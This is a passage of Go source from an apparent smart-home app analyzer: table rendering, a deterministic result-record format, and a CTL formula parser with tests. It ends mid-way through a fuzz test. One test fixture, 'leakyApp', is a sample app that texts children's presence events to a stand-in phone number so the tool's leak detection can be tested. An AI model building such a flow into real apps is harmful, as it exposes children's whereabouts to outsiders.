