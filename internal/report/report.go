// Package report renders the text tables and series the benchmark
// harness prints, so each regenerated experiment mirrors the paper's
// presentation.
package report

import (
	"fmt"
	"strings"
)

// Table is a simple fixed-width text table.
type Table struct {
	Title   string
	Headers []string
	Rows    [][]string
	Notes   []string
}

// AddRow appends a row, stringifying the cells.
func (t *Table) AddRow(cells ...any) {
	row := make([]string, len(cells))
	for i, c := range cells {
		switch v := c.(type) {
		case string:
			row[i] = v
		case float64:
			row[i] = fmt.Sprintf("%.2f", v)
		default:
			row[i] = fmt.Sprint(v)
		}
	}
	t.Rows = append(t.Rows, row)
}

// Note records a footnote printed under the table.
func (t *Table) Note(format string, args ...any) {
	t.Notes = append(t.Notes, fmt.Sprintf(format, args...))
}

// String renders the table.
func (t *Table) String() string {
	widths := make([]int, len(t.Headers))
	for i, h := range t.Headers {
		widths[i] = len(h)
	}
	for _, r := range t.Rows {
		for i, c := range r {
			if i < len(widths) && len(c) > widths[i] {
				widths[i] = len(c)
			}
		}
	}
	var sb strings.Builder
	if t.Title != "" {
		sb.WriteString(t.Title + "\n")
		sb.WriteString(strings.Repeat("=", len(t.Title)) + "\n")
	}
	line := func(cells []string) {
		for i, c := range cells {
			if i > 0 {
				sb.WriteString("  ")
			}
			sb.WriteString(pad(c, widths[i]))
		}
		sb.WriteString("\n")
	}
	line(t.Headers)
	sep := make([]string, len(t.Headers))
	for i := range sep {
		sep[i] = strings.Repeat("-", widths[i])
	}
	line(sep)
	for _, r := range t.Rows {
		line(r)
	}
	for _, n := range t.Notes {
		sb.WriteString("  * " + n + "\n")
	}
	return sb.String()
}

func pad(s string, w int) string {
	if len(s) >= w {
		return s
	}
	return s + strings.Repeat(" ", w-len(s))
}

// Series is an (x, y) data series for the figure-style outputs.
type Series struct {
	Title  string
	XLabel string
	YLabel string
	Points [][2]float64
}

// Add appends a point.
func (s *Series) Add(x, y float64) { s.Points = append(s.Points, [2]float64{x, y}) }

// String renders the series as aligned columns with a coarse ASCII
// bar to convey the shape.
func (s *Series) String() string {
	var sb strings.Builder
	if s.Title != "" {
		sb.WriteString(s.Title + "\n")
		sb.WriteString(strings.Repeat("=", len(s.Title)) + "\n")
	}
	fmt.Fprintf(&sb, "%-14s %-14s\n", s.XLabel, s.YLabel)
	maxY := 0.0
	for _, p := range s.Points {
		if p[1] > maxY {
			maxY = p[1]
		}
	}
	for _, p := range s.Points {
		bar := ""
		if maxY > 0 {
			n := int(p[1] / maxY * 40)
			bar = strings.Repeat("#", n)
		}
		fmt.Fprintf(&sb, "%-14.6g %-14.6g %s\n", p[0], p[1], bar)
	}
	return sb.String()
}
