package report

import (
	"bytes"
	"reflect"
	"strings"
	"testing"

	"github.com/soteria-analysis/soteria/internal/core"
	"github.com/soteria-analysis/soteria/internal/paperapps"
)

func analyzeOnce(t *testing.T) *core.Analysis {
	t.Helper()
	an, err := core.AnalyzeSources(core.DefaultOptions(),
		core.NamedSource{Name: "smoke-alarm", Source: paperapps.SmokeAlarm})
	if err != nil {
		t.Fatalf("analyze: %v", err)
	}
	return an
}

// TestRecordDeterministic analyzes the same app twice, in fresh
// pipeline runs, and requires byte-identical encodings — the property
// the content-addressed store depends on.
func TestRecordDeterministic(t *testing.T) {
	b1, err := Encode(FromAnalysis(analyzeOnce(t)))
	if err != nil {
		t.Fatalf("encode: %v", err)
	}
	b2, err := Encode(FromAnalysis(analyzeOnce(t)))
	if err != nil {
		t.Fatalf("encode: %v", err)
	}
	if !bytes.Equal(b1, b2) {
		t.Fatalf("two runs encoded differently:\n%s\n---\n%s", b1, b2)
	}
	if !strings.Contains(string(b1), `"schema":2`) {
		t.Fatalf("record is not versioned: %s", b1)
	}
}

func TestRecordRoundTrip(t *testing.T) {
	an := analyzeOnce(t)
	rec := FromAnalysis(an)
	if rec.States == 0 || len(rec.Apps) != 1 || rec.Apps[0] != "smoke-alarm" {
		t.Fatalf("unexpected record: %+v", rec)
	}
	b, err := Encode(rec)
	if err != nil {
		t.Fatalf("encode: %v", err)
	}
	got, err := Decode(b)
	if err != nil {
		t.Fatalf("decode: %v", err)
	}
	b2, err := Encode(got)
	if err != nil {
		t.Fatalf("re-encode: %v", err)
	}
	if !bytes.Equal(b, b2) {
		t.Fatalf("decode/encode is not stable:\n%s\n---\n%s", b, b2)
	}

	back := ToAnalysis(got)
	if len(back.Violations) != len(an.Violations) {
		t.Fatalf("rehydrated %d violations, want %d", len(back.Violations), len(an.Violations))
	}
	for i := range back.Violations {
		if back.Violations[i].ID != an.Violations[i].ID ||
			back.Violations[i].Kind != an.Violations[i].Kind {
			t.Fatalf("violation %d mismatch: %+v vs %+v", i, back.Violations[i], an.Violations[i])
		}
	}
	if got, want := back.Checked, an.Checked; len(got) != len(want) {
		t.Fatalf("rehydrated Checked = %v, want %v", got, want)
	}
	if back.Model != nil || back.Kripke != nil {
		t.Fatalf("rehydrated analysis should be model-less")
	}
}

// leakyApp exfiltrates event data over SMS — a T.2 flow the record
// must persist in full.
const leakyApp = `
definition(name: "leaky", namespace: "t", author: "t")
preferences {
    section("Devices") {
        input "kids", "capability.presenceSensor"
    }
}
def installed() { subscribe(kids, "presence.not present", h) }
def h(evt) {
    sendSms("555-0100", "left: ${evt.displayName}")
}
`

// TestRecordTaintFlowsRoundTrip requires taint flows to survive the
// encode/decode/rehydrate cycle byte-identically: a store cache hit
// must serve the same flow section a fresh analysis would.
func TestRecordTaintFlowsRoundTrip(t *testing.T) {
	an, err := core.AnalyzeSources(core.DefaultOptions(),
		core.NamedSource{Name: "leaky", Source: leakyApp})
	if err != nil {
		t.Fatalf("analyze: %v", err)
	}
	if len(an.TaintFlows) == 0 {
		t.Fatal("leaky app produced no taint flows")
	}
	rec := FromAnalysis(an)
	if len(rec.TaintFlows) != len(an.TaintFlows) {
		t.Fatalf("record has %d flows, analysis %d", len(rec.TaintFlows), len(an.TaintFlows))
	}
	b, err := Encode(rec)
	if err != nil {
		t.Fatalf("encode: %v", err)
	}
	if !strings.Contains(string(b), `"taint_flows":[{`) {
		t.Fatalf("record lacks a populated taint_flows section: %s", b)
	}
	got, err := Decode(b)
	if err != nil {
		t.Fatalf("decode: %v", err)
	}
	back := ToAnalysis(got)
	b2, err := Encode(FromAnalysis(back))
	if err != nil {
		t.Fatalf("re-encode: %v", err)
	}
	// The rehydrated analysis is model-less (state counts are not
	// persisted), so compare the flow sections the store contract
	// covers rather than whole records.
	got2, err := Decode(b2)
	if err != nil {
		t.Fatalf("re-decode: %v", err)
	}
	if !reflect.DeepEqual(got2.TaintFlows, rec.TaintFlows) {
		t.Fatalf("taint flows did not survive rehydration:\n%+v\n---\n%+v",
			got2.TaintFlows, rec.TaintFlows)
	}
	if len(got2.Violations) != len(rec.Violations) {
		t.Fatalf("rehydrated %d violations, want %d", len(got2.Violations), len(rec.Violations))
	}
}

func TestDecodeRejects(t *testing.T) {
	if _, err := Decode([]byte("{garbage")); err == nil {
		t.Fatalf("Decode accepted malformed JSON")
	}
	if _, err := Decode([]byte(`{"schema":999}`)); err == nil {
		t.Fatalf("Decode accepted unknown schema version")
	}
}
