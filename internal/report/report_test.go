package report

import (
	"strings"
	"testing"
)

func TestTableRendering(t *testing.T) {
	tbl := &Table{
		Title:   "Demo",
		Headers: []string{"Name", "Count"},
	}
	tbl.AddRow("alpha", 1)
	tbl.AddRow("beta-longer", 42)
	tbl.Note("a note with %d", 7)
	out := tbl.String()
	for _, want := range []string{"Demo", "====", "Name", "alpha", "beta-longer", "42", "* a note with 7"} {
		if !strings.Contains(out, want) {
			t.Errorf("missing %q in:\n%s", want, out)
		}
	}
	// Columns aligned: header and row share the column start.
	lines := strings.Split(out, "\n")
	var header, row string
	for _, l := range lines {
		if strings.HasPrefix(l, "Name") {
			header = l
		}
		if strings.HasPrefix(l, "alpha") {
			row = l
		}
	}
	if strings.Index(header, "Count") != strings.Index(row, "1") {
		t.Errorf("misaligned:\n%q\n%q", header, row)
	}
}

func TestAddRowFloats(t *testing.T) {
	tbl := &Table{Headers: []string{"x"}}
	tbl.AddRow(3.14159)
	if tbl.Rows[0][0] != "3.14" {
		t.Errorf("float cell = %q", tbl.Rows[0][0])
	}
}

func TestSeriesRendering(t *testing.T) {
	s := &Series{Title: "T", XLabel: "x", YLabel: "y"}
	s.Add(1, 10)
	s.Add(2, 40)
	out := s.String()
	if !strings.Contains(out, "x") || !strings.Contains(out, "40") {
		t.Errorf("series output:\n%s", out)
	}
	// The larger y gets the longer bar.
	lines := strings.Split(strings.TrimSpace(out), "\n")
	last := lines[len(lines)-1]
	prev := lines[len(lines)-2]
	if strings.Count(last, "#") <= strings.Count(prev, "#") {
		t.Errorf("bars not proportional:\n%s", out)
	}
}

func TestEmptySeries(t *testing.T) {
	s := &Series{XLabel: "x", YLabel: "y"}
	if out := s.String(); !strings.Contains(out, "x") {
		t.Errorf("empty series output = %q", out)
	}
}
