// The Record type is the serving tier's wire and storage format: a
// versioned, fully deterministic JSON encoding of an analysis result.
// Determinism is load-bearing — records are stored content-addressed
// (key = hash of sources + options), so two runs over the same input
// must encode to the same bytes. To that end the schema contains no
// maps (struct field order is fixed), all slices are in catalogue or
// input order (the pipeline already sorts them), and run-varying data
// (wall-clock timings, goroutine stacks) is excluded. Any maps added
// to a future schema keep determinism for free: encoding/json sorts
// map keys.
package report

import (
	"encoding/json"
	"fmt"

	"github.com/soteria-analysis/soteria/internal/core"
	"github.com/soteria-analysis/soteria/internal/guard"
	"github.com/soteria-analysis/soteria/internal/properties"
	"github.com/soteria-analysis/soteria/internal/taint"
)

// Schema is the current record schema version. Decode rejects records
// with a different version (treated as a cache miss by the store), so
// a schema change never serves mis-shaped results — it just re-analyzes.
// Version 2 added the taint_flows section (T.1–T.6 sensitive-data-flow
// findings).
const Schema = 2

// Record is one analysis result in schema-versioned form.
type Record struct {
	Schema int `json:"schema"`
	// Apps names the analyzed apps, in input order.
	Apps []string `json:"apps"`
	// States/Transitions describe the (reduced) state model.
	States                int `json:"states"`
	StatesBeforeReduction int `json:"states_before_reduction"`
	Transitions           int `json:"transitions"`
	// Violations are in catalogue order (S.1–S.5, P.1–P.30, T.1–T.6, ND).
	Violations []Violation `json:"violations"`
	// TaintFlows are the sensitive-data-flow findings, sorted. They are
	// persisted in full (not just as violations) so rehydrated cache
	// hits serve byte-identical flow sections.
	TaintFlows []TaintFlow `json:"taint_flows"`
	// Checked lists the fully decided app-specific property IDs.
	Checked []string `json:"checked"`
	// Incomplete marks partial results (budget, cancellation, contained
	// fault); Diagnostics explain what was skipped.
	Incomplete  bool         `json:"incomplete"`
	Diagnostics []Diagnostic `json:"diagnostics"`
	// Timing carries the job's trace ID and span tree when the request
	// asked for timings. It is attached per response by the serving
	// tier and never set by FromAnalysis nor persisted: timing data is
	// run-varying and must stay out of the content-addressed bytes.
	Timing *Timing `json:"timing,omitempty"`
}

// Violation is one property violation in record form.
type Violation struct {
	ID             string   `json:"id"`
	Kind           string   `json:"kind"`
	Description    string   `json:"description"`
	Detail         string   `json:"detail"`
	Apps           []string `json:"apps,omitempty"`
	Counterexample string   `json:"counterexample,omitempty"`
}

// TaintFlow is one sensitive-data flow in record form: a source
// reaching a transmission sink with a satisfiable path condition and a
// rendered witness path.
type TaintFlow struct {
	ID          string   `json:"id"`
	App         string   `json:"app"`
	Handler     string   `json:"handler"`
	Event       string   `json:"event"`
	Source      string   `json:"source"`
	SourceClass string   `json:"source_class"`
	Via         string   `json:"via,omitempty"`
	Sink        string   `json:"sink"`
	Channel     string   `json:"channel"`
	Line        int      `json:"line"`
	Condition   string   `json:"condition"`
	Witness     []string `json:"witness"`
}

// Diagnostic is one contained failure in record form. Stacks are
// deliberately dropped: they vary run to run (addresses, goroutine
// IDs) and would break byte-stability.
type Diagnostic struct {
	Stage    string `json:"stage"`
	Property string `json:"property,omitempty"`
	Engine   string `json:"engine,omitempty"`
	Kind     string `json:"kind"`
	Message  string `json:"message"`
}

// FromAnalysis converts a pipeline analysis into its record form.
func FromAnalysis(an *core.Analysis) *Record {
	rec := &Record{
		Schema:      Schema,
		Apps:        []string{},
		Violations:  []Violation{},
		TaintFlows:  []TaintFlow{},
		Checked:     append([]string{}, an.Checked...),
		Incomplete:  an.Incomplete,
		Diagnostics: []Diagnostic{},
	}
	for _, app := range an.Apps {
		rec.Apps = append(rec.Apps, app.Name)
	}
	if an.Model != nil {
		rec.States = len(an.Model.States)
		rec.StatesBeforeReduction = an.Model.StatesBeforeReduction
		rec.Transitions = len(an.Model.Transitions)
	}
	for _, v := range an.Violations {
		rec.Violations = append(rec.Violations, Violation{
			ID:             v.ID,
			Kind:           v.Kind.String(),
			Description:    v.Description,
			Detail:         v.Detail,
			Apps:           v.Apps,
			Counterexample: v.Counterexample,
		})
	}
	for _, f := range an.TaintFlows {
		rec.TaintFlows = append(rec.TaintFlows, TaintFlow{
			ID:          f.ID,
			App:         f.App,
			Handler:     f.Handler,
			Event:       f.Event,
			Source:      f.Source,
			SourceClass: f.SourceClass,
			Via:         f.Via,
			Sink:        f.Sink,
			Channel:     f.Channel,
			Line:        f.Line,
			Condition:   f.Condition,
			Witness:     f.Witness,
		})
	}
	for _, d := range an.Diagnostics {
		rec.Diagnostics = append(rec.Diagnostics, Diagnostic{
			Stage:    d.Stage,
			Property: d.Property,
			Engine:   d.Engine,
			Kind:     string(d.Kind),
			Message:  d.Message,
		})
	}
	return rec
}

// ToAnalysis rehydrates a record into a model-less core.Analysis:
// verdict-level fields (Violations, Checked, Incomplete, Diagnostics)
// are restored; the state model and Kripke structure are not persisted,
// so post-hoc formula checks on a rehydrated analysis report "no
// model". This is the fidelity a cross-restart cache can honestly
// offer — in-process cache levels keep the full analysis.
func ToAnalysis(rec *Record) *core.Analysis {
	an := &core.Analysis{
		Incomplete: rec.Incomplete,
		Checked:    append([]string{}, rec.Checked...),
	}
	for _, v := range rec.Violations {
		an.Violations = append(an.Violations, properties.Violation{
			ID:             v.ID,
			Kind:           properties.KindFromString(v.Kind),
			Description:    v.Description,
			Detail:         v.Detail,
			Apps:           v.Apps,
			Counterexample: v.Counterexample,
		})
	}
	for _, f := range rec.TaintFlows {
		an.TaintFlows = append(an.TaintFlows, taint.Flow{
			ID:          f.ID,
			App:         f.App,
			Handler:     f.Handler,
			Event:       f.Event,
			Source:      f.Source,
			SourceClass: f.SourceClass,
			Via:         f.Via,
			Sink:        f.Sink,
			Channel:     f.Channel,
			Line:        f.Line,
			Condition:   f.Condition,
			Witness:     f.Witness,
		})
	}
	for _, d := range rec.Diagnostics {
		an.Diagnostics = append(an.Diagnostics, guard.Diagnostic{
			Stage:    d.Stage,
			Property: d.Property,
			Engine:   d.Engine,
			Kind:     guard.DiagKind(d.Kind),
			Message:  d.Message,
		})
	}
	return an
}

// Encode renders a record as canonical JSON: compact, fixed field
// order, trailing newline. Byte-equal for equal records.
func Encode(rec *Record) ([]byte, error) {
	b, err := json.Marshal(rec)
	if err != nil {
		return nil, fmt.Errorf("report: encoding record: %w", err)
	}
	return append(b, '\n'), nil
}

// Decode parses and validates a record. A syntactically valid record
// with the wrong schema version is an error too — callers (the store's
// corruption-tolerant read path) treat any error as a miss.
func Decode(data []byte) (*Record, error) {
	var rec Record
	if err := json.Unmarshal(data, &rec); err != nil {
		return nil, fmt.Errorf("report: decoding record: %w", err)
	}
	if rec.Schema != Schema {
		return nil, fmt.Errorf("report: record schema %d, want %d", rec.Schema, Schema)
	}
	return &rec, nil
}
