// Package ctl defines Computation Tree Logic formulas and a parser
// for them. Soteria expresses its safety/security properties in
// temporal logic (paper §4.4) and verifies them with a symbolic model
// checker; this package is the formula half of that substrate.
//
// Syntax accepted by Parse (precedence low to high):
//
//	f ::= f '->' f | f '|' f | f '&' f | '!' f
//	    | 'AX' f | 'EX' f | 'AF' f | 'EF' f | 'AG' f | 'EG' f
//	    | 'A' '[' f 'U' f ']' | 'E' '[' f 'U' f ']'
//	    | '(' f ')' | 'true' | 'false' | prop
//
// Atomic propositions are written as double-quoted strings
// ("valve.valve=closed") or bare tokens without spaces or operator
// characters.
package ctl

import (
	"fmt"
	"strconv"
	"strings"
)

// Formula is a CTL formula.
type Formula interface {
	String() string
}

// Prop is an atomic proposition.
type Prop struct{ Name string }

// TrueF is the constant true.
type TrueF struct{}

// FalseF is the constant false.
type FalseF struct{}

// Not is logical negation.
type Not struct{ X Formula }

// And is logical conjunction.
type And struct{ L, R Formula }

// Or is logical disjunction.
type Or struct{ L, R Formula }

// Implies is logical implication.
type Implies struct{ L, R Formula }

// EX: some successor satisfies X.
type EX struct{ X Formula }

// AX: every successor satisfies X.
type AX struct{ X Formula }

// EF: some path eventually satisfies X.
type EF struct{ X Formula }

// AF: every path eventually satisfies X.
type AF struct{ X Formula }

// EG: some path globally satisfies X.
type EG struct{ X Formula }

// AG: every path globally satisfies X.
type AG struct{ X Formula }

// EU: some path satisfies A until B.
type EU struct{ A, B Formula }

// AU: every path satisfies A until B.
type AU struct{ A, B Formula }

func (p Prop) String() string    { return fmt.Sprintf("%q", p.Name) }
func (TrueF) String() string     { return "true" }
func (FalseF) String() string    { return "false" }
func (n Not) String() string     { return "!" + paren(n.X) }
func (a And) String() string     { return paren(a.L) + " & " + paren(a.R) }
func (o Or) String() string      { return paren(o.L) + " | " + paren(o.R) }
func (i Implies) String() string { return paren(i.L) + " -> " + paren(i.R) }
func (x EX) String() string      { return "EX " + paren(x.X) }
func (x AX) String() string      { return "AX " + paren(x.X) }
func (x EF) String() string      { return "EF " + paren(x.X) }
func (x AF) String() string      { return "AF " + paren(x.X) }
func (x EG) String() string      { return "EG " + paren(x.X) }
func (x AG) String() string      { return "AG " + paren(x.X) }
func (u EU) String() string      { return "E[" + u.A.String() + " U " + u.B.String() + "]" }
func (u AU) String() string      { return "A[" + u.A.String() + " U " + u.B.String() + "]" }

func paren(f Formula) string {
	switch f.(type) {
	case Prop, TrueF, FalseF, Not:
		return f.String()
	}
	return "(" + f.String() + ")"
}

// Props returns the distinct atomic proposition names in f.
func Props(f Formula) []string {
	seen := map[string]bool{}
	var out []string
	var walk func(Formula)
	walk = func(f Formula) {
		switch x := f.(type) {
		case Prop:
			if !seen[x.Name] {
				seen[x.Name] = true
				out = append(out, x.Name)
			}
		case Not:
			walk(x.X)
		case And:
			walk(x.L)
			walk(x.R)
		case Or:
			walk(x.L)
			walk(x.R)
		case Implies:
			walk(x.L)
			walk(x.R)
		case EX:
			walk(x.X)
		case AX:
			walk(x.X)
		case EF:
			walk(x.X)
		case AF:
			walk(x.X)
		case EG:
			walk(x.X)
		case AG:
			walk(x.X)
		case EU:
			walk(x.A)
			walk(x.B)
		case AU:
			walk(x.A)
			walk(x.B)
		}
	}
	walk(f)
	return out
}

// ---------------------------------------------------------------------------
// Parser

type parser struct {
	src      string
	pos      int
	depth    int
	maxDepth int
}

// DefaultMaxDepth is the nesting-depth limit Parse enforces; beyond
// it the recursive-descent parser would risk exhausting the stack on
// adversarial inputs (e.g. megabytes of '!' or '(').
const DefaultMaxDepth = 1000

// Parse parses a CTL formula. It rejects formulas nested deeper than
// DefaultMaxDepth; use ParseDepth to choose a different limit.
func Parse(src string) (Formula, error) {
	return ParseDepth(src, DefaultMaxDepth)
}

// ParseDepth is Parse with an explicit nesting-depth limit
// (maxDepth <= 0 selects DefaultMaxDepth).
func ParseDepth(src string, maxDepth int) (Formula, error) {
	if maxDepth <= 0 {
		maxDepth = DefaultMaxDepth
	}
	p := &parser{src: src, maxDepth: maxDepth}
	f, err := p.parseImplies()
	if err != nil {
		return nil, err
	}
	p.skipWS()
	if p.pos != len(p.src) {
		return nil, fmt.Errorf("ctl: trailing input at %d: %q", p.pos, p.src[p.pos:])
	}
	return f, nil
}

// MustParse parses a formula, panicking on error; for property tables.
func MustParse(src string) Formula {
	f, err := Parse(src)
	if err != nil {
		panic(err)
	}
	return f
}

func (p *parser) skipWS() {
	for p.pos < len(p.src) && (p.src[p.pos] == ' ' || p.src[p.pos] == '\t' || p.src[p.pos] == '\n') {
		p.pos++
	}
}

func (p *parser) peekWord() string {
	p.skipWS()
	i := p.pos
	for i < len(p.src) && isWordChar(p.src[i]) {
		i++
	}
	return p.src[p.pos:i]
}

func isWordChar(c byte) bool {
	return c >= 'a' && c <= 'z' || c >= 'A' && c <= 'Z' || c >= '0' && c <= '9' ||
		c == '_' || c == '.' || c == '=' || c == '<' || c == '>'
}

func (p *parser) eat(s string) bool {
	p.skipWS()
	if strings.HasPrefix(p.src[p.pos:], s) {
		p.pos += len(s)
		return true
	}
	return false
}

func (p *parser) parseImplies() (Formula, error) {
	l, err := p.parseOr()
	if err != nil {
		return nil, err
	}
	p.skipWS()
	if p.eat("->") {
		r, err := p.parseImplies() // right-associative
		if err != nil {
			return nil, err
		}
		return Implies{L: l, R: r}, nil
	}
	return l, nil
}

func (p *parser) parseOr() (Formula, error) {
	l, err := p.parseAnd()
	if err != nil {
		return nil, err
	}
	for {
		p.skipWS()
		// Don't consume the '-' of '->'.
		if p.pos < len(p.src) && p.src[p.pos] == '|' {
			p.pos++
			r, err := p.parseAnd()
			if err != nil {
				return nil, err
			}
			l = Or{L: l, R: r}
			continue
		}
		return l, nil
	}
}

func (p *parser) parseAnd() (Formula, error) {
	l, err := p.parseUnary()
	if err != nil {
		return nil, err
	}
	for {
		p.skipWS()
		if p.pos < len(p.src) && p.src[p.pos] == '&' {
			p.pos++
			r, err := p.parseUnary()
			if err != nil {
				return nil, err
			}
			l = And{L: l, R: r}
			continue
		}
		return l, nil
	}
}

func (p *parser) parseUnary() (Formula, error) {
	p.depth++
	defer func() { p.depth-- }()
	if p.depth > p.maxDepth {
		return nil, fmt.Errorf("ctl: formula exceeds maximum nesting depth %d", p.maxDepth)
	}
	p.skipWS()
	if p.pos >= len(p.src) {
		return nil, fmt.Errorf("ctl: unexpected end of formula")
	}
	switch {
	case p.src[p.pos] == '!':
		p.pos++
		x, err := p.parseUnary()
		if err != nil {
			return nil, err
		}
		return Not{X: x}, nil
	case p.src[p.pos] == '(':
		p.pos++
		f, err := p.parseImplies()
		if err != nil {
			return nil, err
		}
		p.skipWS()
		if p.pos >= len(p.src) || p.src[p.pos] != ')' {
			return nil, fmt.Errorf("ctl: missing ')' at %d", p.pos)
		}
		p.pos++
		return f, nil
	case p.src[p.pos] == '"':
		return p.parseQuotedProp()
	}
	w := p.peekWord()
	switch w {
	case "AX", "EX", "AF", "EF", "AG", "EG":
		p.pos += 2
		x, err := p.parseUnary()
		if err != nil {
			return nil, err
		}
		switch w {
		case "AX":
			return AX{X: x}, nil
		case "EX":
			return EX{X: x}, nil
		case "AF":
			return AF{X: x}, nil
		case "EF":
			return EF{X: x}, nil
		case "AG":
			return AG{X: x}, nil
		case "EG":
			return EG{X: x}, nil
		}
	case "A", "E":
		p.pos++
		p.skipWS()
		if p.pos >= len(p.src) || p.src[p.pos] != '[' {
			return nil, fmt.Errorf("ctl: expected '[' after %s at %d", w, p.pos)
		}
		p.pos++
		a, err := p.parseImplies()
		if err != nil {
			return nil, err
		}
		p.skipWS()
		if p.peekWord() != "U" {
			return nil, fmt.Errorf("ctl: expected 'U' at %d", p.pos)
		}
		p.pos++
		b, err := p.parseImplies()
		if err != nil {
			return nil, err
		}
		p.skipWS()
		if p.pos >= len(p.src) || p.src[p.pos] != ']' {
			return nil, fmt.Errorf("ctl: expected ']' at %d", p.pos)
		}
		p.pos++
		if w == "A" {
			return AU{A: a, B: b}, nil
		}
		return EU{A: a, B: b}, nil
	case "true":
		p.pos += 4
		return TrueF{}, nil
	case "false":
		p.pos += 5
		return FalseF{}, nil
	case "":
		return nil, fmt.Errorf("ctl: unexpected character %q at %d", p.src[p.pos], p.pos)
	}
	p.pos += len(w)
	return Prop{Name: w}, nil
}

// parseQuotedProp scans a Go-style quoted proposition. Escape
// sequences are decoded, so the %q rendering of any proposition name
// (including non-printable bytes) parses back to the same name.
func (p *parser) parseQuotedProp() (Formula, error) {
	start := p.pos
	p.pos++ // opening quote
	for p.pos < len(p.src) {
		switch p.src[p.pos] {
		case '\\':
			p.pos++
			if p.pos < len(p.src) {
				p.pos++
			}
		case '"':
			p.pos++
			name, err := strconv.Unquote(p.src[start:p.pos])
			if err != nil {
				return nil, fmt.Errorf("ctl: bad proposition literal at %d: %v", start, err)
			}
			return Prop{Name: name}, nil
		default:
			p.pos++
		}
	}
	return nil, fmt.Errorf("ctl: unterminated proposition at %d", start)
}
