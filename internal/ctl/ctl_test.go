package ctl

import (
	"testing"
	"testing/quick"
)

func TestParseBasic(t *testing.T) {
	cases := map[string]string{
		`"a"`:                  `"a"`,
		`true`:                 `true`,
		`false`:                `false`,
		`!"a"`:                 `!"a"`,
		`"a" & "b"`:            `"a" & "b"`,
		`"a" | "b"`:            `"a" | "b"`,
		`"a" -> "b"`:           `"a" -> "b"`,
		`AG "a"`:               `AG "a"`,
		`AG ("a" -> AF "b")`:   `AG ("a" -> (AF "b"))`,
		`E["a" U "b"]`:         `E["a" U "b"]`,
		`A["a" U "b"]`:         `A["a" U "b"]`,
		`AX "a"`:               `AX "a"`,
		`EX "a"`:               `EX "a"`,
		`EF "a"`:               `EF "a"`,
		`EG "a"`:               `EG "a"`,
		`!AG "a"`:              `!(AG "a")`,
		`"a" & "b" | "c"`:      `("a" & "b") | "c"`,
		`"a" -> "b" -> "c"`:    `"a" -> ("b" -> "c")`, // right assoc
		`AG ("x=1" -> EX "y")`: `AG ("x=1" -> (EX "y"))`,
	}
	for src, want := range cases {
		f, err := Parse(src)
		if err != nil {
			t.Errorf("Parse(%q): %v", src, err)
			continue
		}
		if got := f.String(); got != want {
			t.Errorf("Parse(%q) = %s, want %s", src, got, want)
		}
	}
}

func TestParsePropsWithSpecials(t *testing.T) {
	f, err := Parse(`AG ("valve.valve=closed" -> "ev:water.wet")`)
	if err != nil {
		t.Fatal(err)
	}
	props := Props(f)
	if len(props) != 2 || props[0] != "valve.valve=closed" || props[1] != "ev:water.wet" {
		t.Errorf("props = %v", props)
	}
}

func TestParseBareProp(t *testing.T) {
	f, err := Parse(`smoke=detected`)
	if err != nil {
		t.Fatal(err)
	}
	p, ok := f.(Prop)
	if !ok || p.Name != "smoke=detected" {
		t.Errorf("got %v", f)
	}
}

func TestParseErrors(t *testing.T) {
	for _, src := range []string{
		``, `(`, `("a"`, `A["a" "b"]`, `E["a" U "b"`, `"unterminated`,
		`"a" &`, `AG`, `"a") extra`,
	} {
		if _, err := Parse(src); err == nil {
			t.Errorf("Parse(%q) should fail", src)
		}
	}
}

func TestMustParsePanics(t *testing.T) {
	defer func() {
		if recover() == nil {
			t.Error("MustParse should panic on bad input")
		}
	}()
	MustParse("((")
}

// Property: String() output of a parsed formula re-parses to the same
// string (printer/parser round trip).
func TestRoundTrip(t *testing.T) {
	inputs := []string{
		`AG ("a" -> AF "b")`,
		`E["p" U ("q" & !"r")]`,
		`A[true U "done"]`,
		`AG (("x" | "y") -> EX "z")`,
		`!EF ("bad" & "worse")`,
	}
	for _, src := range inputs {
		f1 := MustParse(src)
		f2 := MustParse(f1.String())
		if f1.String() != f2.String() {
			t.Errorf("round trip failed: %q -> %q -> %q", src, f1.String(), f2.String())
		}
	}
}

// Property: Props never returns duplicates.
func TestPropsNoDuplicates(t *testing.T) {
	f := MustParse(`AG ("a" -> AF ("a" & "b" | "a"))`)
	props := Props(f)
	seen := map[string]bool{}
	for _, p := range props {
		if seen[p] {
			t.Errorf("duplicate prop %q", p)
		}
		seen[p] = true
	}
	if len(props) != 2 {
		t.Errorf("props = %v", props)
	}
}

func TestParseTotalQuick(t *testing.T) {
	f := func(s string) bool {
		_, _ = Parse(s) // must not panic
		return true
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 300}); err != nil {
		t.Error(err)
	}
}
