package ctl_test

import (
	"strings"
	"testing"

	"github.com/soteria-analysis/soteria/internal/conformance"
	"github.com/soteria-analysis/soteria/internal/ctl"
	"github.com/soteria-analysis/soteria/internal/ir"
	"github.com/soteria-analysis/soteria/internal/paperapps"
	"github.com/soteria-analysis/soteria/internal/properties"
	"github.com/soteria-analysis/soteria/internal/statemodel"
)

// catalogueSeeds renders every applicable catalogue formula on the
// paper's example apps — realistic seeds exercising the proposition
// and operator grammar the analyzer actually produces.
func catalogueSeeds() []string {
	var out []string
	for _, src := range []string{
		paperapps.SmokeAlarm,
		paperapps.BuggySmokeAlarm,
		paperapps.WaterLeakDetector,
		paperapps.ThermostatEnergyControl,
	} {
		app, err := ir.BuildSource("seed", src)
		if err != nil {
			continue
		}
		m, err := statemodel.Build(app)
		if err != nil {
			continue
		}
		for _, p := range properties.Catalogue() {
			for _, v := range p.Variants {
				if !v.Applicable(m) {
					continue
				}
				if f, ok := v.Build(m); ok {
					out = append(out, f.String())
				}
			}
		}
	}
	return out
}

// FuzzParse drives the CTL parser with arbitrary input. The
// invariants are totality (no panic, even on deeply nested input —
// the depth limit must kick in before the stack does) and that any
// accepted formula round-trips through its rendering.
func FuzzParse(f *testing.F) {
	for _, s := range catalogueSeeds() {
		f.Add(s)
	}
	// Seeded random formulas from the conformance generator — every CTL
	// constructor over device-style atoms, shapes the catalogue never
	// produces.
	for _, s := range conformance.GenFormulaStrings(1, 64) {
		f.Add(s)
	}
	seeds := []string{
		"true", "false", "\"valve.valve=closed\"",
		"AG(\"smoke.smoke=detected\" -> AF \"alarm.alarm=siren\")",
		"E[\"a\" U \"b\"] & A[\"c\" U \"d\"]",
		"EX !\"p\" | AX \"q\"",
		"EF EG AF AG \"p\"",
		"((((\"p\"))))",
		"!(!(!\"p\"))",
		"AG(", "E[\"a\" U", "\"unterminated",
		strings.Repeat("!", 2000) + "\"p\"",
		strings.Repeat("(", 2000) + "\"p\"" + strings.Repeat(")", 2000),
		strings.Repeat("AG ", 1500) + "\"p\"",
	}
	for _, s := range seeds {
